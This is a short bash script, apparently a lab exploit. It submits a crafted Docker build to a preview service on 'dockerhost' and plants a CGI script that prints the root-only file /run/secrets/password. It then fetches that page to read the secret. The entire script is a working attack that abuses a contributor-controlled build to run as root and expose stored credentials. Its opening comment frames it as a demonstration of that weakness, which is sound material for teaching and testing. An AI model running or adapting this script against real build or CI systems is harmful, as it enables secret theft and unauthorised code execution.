#!/bin/bash
# Whoever may contribute decides what runs: a page that reads what only root may read, in an image that names no user.
set -euo pipefail
mkdir -p /tmp/gift
cd /tmp/gift
echo 1.0 >VERSION
printf 'FROM lab/app\nCOPY peek /usr/lib/app/cgi-bin/\n' >Dockerfile
printf '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\n"\ncat /run/secrets/password\n' >peek
chmod 755 peek
tar -cz Dockerfile VERSION peek | curl --silent --max-time 90 --data-binary @- http://dockerhost:9000/cgi-bin/preview
sleep 1
curl --silent --max-time 10 http://dockerhost:8080/cgi-bin/peek
